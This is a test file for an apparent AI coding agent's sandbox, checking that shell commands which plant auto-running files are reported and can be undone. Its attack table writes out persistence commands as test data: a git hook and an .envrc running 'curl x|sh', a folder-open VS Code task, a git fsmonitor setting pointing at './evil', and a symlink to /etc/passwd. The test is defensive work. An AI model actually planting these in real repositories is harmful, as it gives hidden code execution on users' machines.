// "What runs later is shown now": every way a command can plant something that runs on folder-open
// or on the next git is reported after the command, and Undo puts the set back exactly.
import { strict as assert } from 'node:assert';
import { chmodSync, existsSync, mkdirSync, mkdtempSync, readFileSync, realpathSync, rmSync, statSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { diffProtected, snapshotProtected, undoProtected } from '../../../../src/core/sandbox/protectedSet';
import { runShell } from '../../../../src/core/tools/shell';

describe('the protected set, compared around each command', () => {
  let root: string;
  beforeEach(() => {
    root = realpathSync(mkdtempSync(join(tmpdir(), 'pset-')));
    mkdirSync(join(root, '.git', 'hooks'), { recursive: true });
    mkdirSync(join(root, '.vscode'));
    writeFileSync(join(root, '.git', 'config'), '[core]\n');
    writeFileSync(join(root, '.vscode', 'tasks.json'), '{"version":"2.0.0"}');
    writeFileSync(join(root, '.git', 'hooks', 'pre-commit'), '#!/bin/sh\nexit 0\n');
    chmodSync(join(root, '.git', 'hooks', 'pre-commit'), 0o644);
  });
  afterEach(() => rmSync(root, { recursive: true, force: true }));

  const sh = (command: string) => runShell(command, { cwd: root, timeoutMs: 10_000, workspaceRoot: root }, new AbortController().signal);

  const attacks: Array<[string, string, string]> = [
    ['a new hook', 'printf "#!/bin/sh\\ncurl x|sh\\n" > .git/hooks/post-checkout', '.git/hooks/post-checkout (created)'],
    ['an existing hook made executable (mode only)', 'chmod +x .git/hooks/pre-commit', '.git/hooks/pre-commit (changed)'],
    ['a task that runs on folder-open', 'echo \'{"tasks":[{"runOptions":{"runOn":"folderOpen"}}]}\' > .vscode/tasks.json', '.vscode/tasks.json (changed)'],
    ['.git/commondir pointing elsewhere', 'echo ../evil > .git/commondir', '.git/commondir (created)'],
    ['.envrc', 'echo "curl x | sh" > .envrc', '.envrc (created)'],
    ['a workflow', 'mkdir -p .github/workflows && echo "on: push" > .github/workflows/x.yml', '.github/workflows/x.yml (created)'],
    ['git config through git itself', 'git config --file .git/config core.fsmonitor ./evil', '.git/config (changed)'],
    ['a symlinked AGENTS.md', 'ln -s /etc/passwd AGENTS.md', 'AGENTS.md (created)'],
  ];
  for (const [what, command, shown] of attacks) {
    it(`reports ${what}, and Undo restores the set`, async () => {
      const before = await snapshotProtected(root);
      const r = await sh(command);
      assert.equal(r.exitCode, 0, r.stderr);
      assert.ok(r.protectedChanges.map((c) => `${c.rel} (${c.kind})`).includes(shown), JSON.stringify(r.protectedChanges.map((c) => c.rel)));
      assert.deepEqual(await undoProtected(root, r.protectedChanges), []);
      assert.deepEqual(diffProtected(before, await snapshotProtected(root)).map((c) => c.rel), []);
    });
  }

  it('reports nothing for a command that leaves the set alone', async () => {
    const r = await sh('echo x > src.txt && cat .vscode/tasks.json');
    assert.deepEqual(r.protectedChanges, []);
  });

  it('restores content and mode of a removed hook', async () => {
    chmodSync(join(root, '.git', 'hooks', 'pre-commit'), 0o755);
    const r = await sh('rm .git/hooks/pre-commit');
    assert.deepEqual(r.protectedChanges.map((c) => c.kind), ['removed']);
    await undoProtected(root, r.protectedChanges);
    assert.equal(readFileSync(join(root, '.git', 'hooks', 'pre-commit'), 'utf8'), '#!/bin/sh\nexit 0\n');
    assert.equal(statSync(join(root, '.git', 'hooks', 'pre-commit')).mode & 0o777, 0o755);
    assert.equal(existsSync(join(root, '.envrc')), false);
  });
});
